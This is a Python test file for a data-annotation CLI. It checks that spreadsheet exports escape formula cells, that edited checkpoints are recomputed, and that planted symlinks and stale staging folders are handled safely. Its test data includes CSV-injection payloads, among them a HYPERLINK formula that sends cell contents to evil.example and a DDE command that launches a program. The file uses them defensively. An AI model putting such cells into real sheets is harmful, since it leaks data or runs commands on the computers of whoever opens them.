"""Issue 31 (side files, checkpoints, staging folders, spreadsheets): what an output's files may do to a
user's data, tested on real runs in temporary folders."""
import csv
import json
from pathlib import Path

import pandas as pd

from judge import annotate as annotate_cmd
from judge.core.records import read_records
from judge.core.sheets import guard_cell, unguard_cell
from tests.conftest import run_cli

# Cells a spreadsheet would run (OWASP's CSV injection list), and one that already starts with an apostrophe.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2", "'quoted",
           "\tTAB", "\rCR", "plain"]


def _read_cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _fill(path: Path, labels: dict[str, str]) -> None:
    """An annotator fills the label column, keeping every other cell as the sheet has it."""
    rows = _read_cells(path)
    for row in rows:
        row["label"] = labels[unguard_cell(row["id"])]
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_guard_is_undone_exactly():
    for value in [*HOSTILE, "''two", "", "x=1"]:
        assert unguard_cell(guard_cell(value)) == value
    assert guard_cell("plain") == "plain" and guard_cell(-2) == -2 and guard_cell("'q") == "''q"


def test_formula_cells_are_neutralised_in_every_sheet_and_come_back_unchanged(tmp_path, capsys):
    rows = [{"id": cell, "prompt": f"p {i}", "response": cell, "=evil": cell, "identity": "a" if i % 2 else "b"}
            for i, cell in enumerate(HOSTILE)]
    src = tmp_path / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "round"
    code, _, err = run_cli(annotate_cmd, ["export", str(src), "--budget", str(len(rows)), "--taxonomy", "chehbouni2024",
                                          "--annotators", "alice", "bob", "--show", "=evil", "--out", str(out)], capsys)
    assert code == 0, err
    for sheet in ("alice.csv", "bob.csv", "items.csv"):
        cells = _read_cells(out / sheet)
        assert "'=evil" in cells[0] and "=evil" not in cells[0], sheet
        for row in cells:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet, value)
        assert {r["response"] for r in cells} == {guard_cell(c) for c in HOSTILE}, sheet
    assert "apostrophe" in (out / "GUIDELINES.md").read_text()
    # alice and bob disagree on every other item: the adjudicator's sheet gets those
    _fill(out / "alice.csv", {c: "answer" for c in HOSTILE})
    _fill(out / "bob.csv", {c: "refusal" if i % 2 else "answer" for i, c in enumerate(HOSTILE)})
    labels = tmp_path / "labels.jsonl"
    code, _, err = run_cli(annotate_cmd, ["import", str(out), str(out / "alice.csv"), str(out / "bob.csv"),
                                          "--taxonomy", "chehbouni2024", "--out", str(labels)], capsys)
    assert code == 0, err
    back = read_records(labels).set_index("id")
    assert sorted(back.index) == sorted(HOSTILE)
    for cell in HOSTILE:  # no real value changed: ids, texts and the hostile column come back as they were
        assert back.loc[cell, "response"] == cell and back.loc[cell, "=evil"] == cell
    code, _, err = run_cli(annotate_cmd, ["adjudicate", str(labels), "--taxonomy", "chehbouni2024", "--out", str(tmp_path / "adj")], capsys)
    assert code == 0, err
    sheet = _read_cells(tmp_path / "adj" / "adjudicator.csv")
    disputed = [c for i, c in enumerate(HOSTILE) if i % 2]
    assert sorted(r["id"] for r in sheet) == sorted(guard_cell(c) for c in disputed)
    assert "apostrophe" in (tmp_path / "adj" / "README.md").read_text()
    _fill(tmp_path / "adj" / "adjudicator.csv", {c: "refusal" for c in disputed})
    final = tmp_path / "final.jsonl"
    code, _, err = run_cli(annotate_cmd, ["resolve", str(labels), str(tmp_path / "adj" / "adjudicator.csv"), "--taxonomy", "chehbouni2024",
                                          "--out", str(final)], capsys)
    assert code == 0, err
    resolved = read_records(final).set_index("id")
    assert resolved["label"].to_dict() == {c: "refusal" if c in disputed else "answer" for c in HOSTILE}
    assert (resolved["response"] == resolved.index).all()
    # a later round excludes the items of this one through its items.csv: every hostile id is recognised
    code, _, err = run_cli(annotate_cmd, ["export", str(src), "--budget", "3", "--taxonomy", "chehbouni2024", "--exclude", str(out / "items.csv"),
                                          "--out", str(tmp_path / "round2")], capsys)
    assert code == 2 and "no records left" in err, err


# -- item 6: missing group values, a full disk while training ------------------------------------

def _grouped_rows(groups):
    return [{"id": f"r{i}", "prompt": f"Name{i % 6} went to", "response": "I cannot help" if i % 3 == 0 else "sure",
             "label": "refusal" if i % 3 == 0 else "answer", "name": f"Name{i % 6}", "identity": groups[i % len(groups)]}
            for i in range(36)]


def test_missing_group_values_are_their_own_group_in_report_and_swap(tmp_path, capsys):
    from judge import report, swap

    src = tmp_path / "missing.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _grouped_rows([None, "", "  ", "asian", "white", "white"])))
    human = tmp_path / "human.csv"
    human.write_text("id,label\n" + "".join(f"r{i},{'refusal' if i % 3 == 0 else 'answer'}\n" for i in range(0, 36, 2)))
    for extra in ([], ["--human", str(human)]):
        out = tmp_path / f"report{len(extra)}"
        code, _, err = run_cli(report, [str(src), "--label", "label", "--group", "identity", "--out", str(out), *extra], capsys)
        assert code == 0, err
        assert "18 row(s) have no 'identity' value" in err
        rates = json.loads((out / "disparity.json").read_text())["rates"]
        # rows 0, 1, 2 of every 6 have no identity: 18 of 36; asian 6, white 12
        assert {g: r["answer"]["n"] for g, r in rates.items()} == {"(missing)": 18, "asian": 6, "white": 12}
    from judge import agree

    code, _, err = run_cli(agree, [str(src), "--gold", "label", "--pred", "label", "--by", "identity", "--out", str(tmp_path / "agree")], capsys)
    assert code == 0, err
    groups = json.loads((tmp_path / "agree" / "agreement.json").read_text())["by_groups"][0]["groups"]
    assert sorted(groups) == ["(missing)", "asian", "white"]
    code, _, err = run_cli(swap, [str(src), "--judge", "rules", "--group", "identity", "--out", str(tmp_path / "swap")], capsys)
    assert code == 0, err
    pairs = json.loads((tmp_path / "swap" / "swap.json").read_text())["pairs"]
    assert {"(missing) -> asian", "white -> (missing)"} <= set(pairs)


def test_spaces_around_group_values_are_stripped_and_said(tmp_path, capsys):
    from judge import report

    src = tmp_path / "padded.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _grouped_rows(["asian", "asian ", "white"])))
    code, _, err = run_cli(report, [str(src), "--label", "label", "--group", "identity", "--out", str(tmp_path / "r")], capsys)
    assert code == 0, err
    assert "12 'identity' value(s) had spaces around them, stripped ('asian ' is 'asian')" in err
    result = json.loads((tmp_path / "r" / "disparity.json").read_text())
    assert "asian " not in json.dumps(result) and '"asian"' in json.dumps(result)


def test_full_disk_while_training_is_one_line(tmp_path, capsys, monkeypatch):
    """safetensors' writer raises its own SafetensorError, not an OSError, when the disk fills (seen on a
    128 KiB tmpfs): it is said in the one line every other full disk gets, and nothing is left behind."""
    import safetensors.numpy
    from safetensors import SafetensorError

    from judge import train
    from tests.badinput import assert_refused

    def full(*args, **kwargs):
        raise SafetensorError("Error while serializing: I/O error: No space left on device (os error 28)")

    monkeypatch.setattr(safetensors.numpy, "save_file", full)
    src = tmp_path / "in" / "train.jsonl"
    src.parent.mkdir()
    src.write_text("".join(json.dumps(r) + "\n" for r in _grouped_rows(["a", "b"])))
    assert_refused(train, ["--train", str(src), "--kind", "tfidf", "--out", str(tmp_path / "judge")],
                   ["no space left on the device", "nothing was replaced"], root=tmp_path, capsys=capsys)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"], "no judge and no staging folder left"


# -- item 1: side files -----------------------------------------------------------------------------

def _label_rows(n=24):
    return [{"id": f"r{i}", "prompt": f"Name{i} went to", "response": "I cannot help with that." if i % 3 == 0 else f"to fly home {'x' * i}"}
            for i in range(n)]


def test_an_edited_checkpoint_row_is_computed_again(tmp_path, capsys, monkeypatch):
    """Issue 31 (1d): a label edited in OUT.partial.jsonl after a kill no longer matches its batch's seal, so the
    rerun labels that batch again: the output is the bytes of an uninterrupted run."""
    from judge import label
    from judge.core.records import JsonlCheckpoint, checkpoint_path

    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _label_rows()), encoding="utf-8")
    argv = ["--judge", "rules", "--input", str(src), "--batch-size", "5", "--no-progress", "--prefix", "j_"]
    code, _, err = run_cli(label, [*argv, "--out", str(tmp_path / "clean.jsonl")], capsys)
    assert code == 0, err
    clean = (tmp_path / "clean.jsonl").read_bytes()

    out = tmp_path / "out.jsonl"
    real_append = JsonlCheckpoint.append
    count = {"n": 0}

    def append_then_die(self, rows):
        real_append(self, rows)
        count["n"] += 1
        if count["n"] == 3:
            raise KeyboardInterrupt

    monkeypatch.setattr(JsonlCheckpoint, "append", append_then_die)
    assert run_cli(label, [*argv, "--out", str(out)], capsys)[0] == 130
    monkeypatch.setattr(JsonlCheckpoint, "append", real_append)
    partial = checkpoint_path(out)
    lines = partial.read_text(encoding="utf-8").splitlines()
    victim = next(i for i, line in enumerate(lines) if '"j_label": "refusal"' in line)
    lines[victim] = lines[victim].replace('"j_label": "refusal"', '"j_label": "failure"')  # row 1969 of the issue, in small
    partial.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert len(JsonlCheckpoint(partial).rows()) == 10  # 3 batches of 5 sealed, the edited one no longer counts
    code, stdout, err = run_cli(label, [*argv, "--out", str(out)], capsys)
    assert code == 0, err
    assert "do not match the digest" in err and "(10 resumed)" in stdout
    assert out.read_bytes() == clean and not partial.exists()


def test_planted_links_at_the_manifest_are_replaced_not_followed(tmp_path, capsys):
    """The manifest beside OUT (and the temporary file it is written through) is created anew and renamed into
    place: a link planted there is replaced, and the file it pointed to keeps its bytes."""
    from judge import label

    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _label_rows(6)), encoding="utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out_dir = tmp_path / "o"
    out_dir.mkdir()
    (out_dir / "lk.jsonl.manifest.json").symlink_to(victim)
    (out_dir / "lk.jsonl.manifest.json.tmp").symlink_to(victim)  # the fixed temporary name of earlier versions
    code, _, err = run_cli(label, ["--judge", "rules", "--input", str(src), "--out", str(out_dir / "lk.jsonl"), "--no-progress"], capsys)
    assert code == 0, err
    assert victim.read_text() == "precious\n"
    manifest = out_dir / "lk.jsonl.manifest.json"
    assert not manifest.is_symlink() and json.loads(manifest.read_text())["status"] == "complete"


def _dead_pid() -> int:
    import subprocess
    import sys

    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_killed_runs_staging_folder_is_removed_by_the_next_run_of_that_output(tmp_path, capsys):
    """Issue 31 (1e): kill -9 during judge.report / judge.train leaves .OUT.pid<PID>-XXXX.tmp beside --out. The next
    run of that output (holding its lock) removes the folders of dead processes named for it, and nothing else:
    not a live process's, not another output's, not an unmarked folder, not a link (nor what it points to)."""
    import os

    from judge import report, train

    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in _grouped_rows(["a", "b"])), encoding="utf-8")
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep\n")
    for out_name, module, argv in [("rep", report, [str(src), "--label", "label", "--group", "identity"]),
                                   ("jd", train, ["--train", str(src), "--kind", "tfidf"])]:
        dead = tmp_path / f".{out_name}.pid{_dead_pid()}-k2j3x_9.tmp"
        dead.mkdir()
        (dead / "half.md").write_text("half a report\n")
        kept = [tmp_path / f".{out_name}.pid{os.getpid()}-live0001.tmp",  # a live process's (this one's)
                tmp_path / f".other{out_name}.pid{_dead_pid()}-abc.tmp",  # another output's
                tmp_path / f".{out_name}.abc123.tmp"]  # no process id in the name: not known to be this output's
        for folder in kept:
            folder.mkdir()
        link = tmp_path / f".{out_name}.pid{_dead_pid()}-link.tmp"
        link.symlink_to(victim)
        code, _, err = run_cli(module, [*argv, "--out", str(tmp_path / out_name)], capsys)
        assert code == 0, err
        assert not dead.exists() and all(folder.is_dir() for folder in kept) and link.is_symlink(), out_name
        assert (victim / "keep.txt").read_text() == "keep\n"
        assert (tmp_path / out_name / "manifest.json").is_file()
        for folder in kept:
            folder.rmdir()
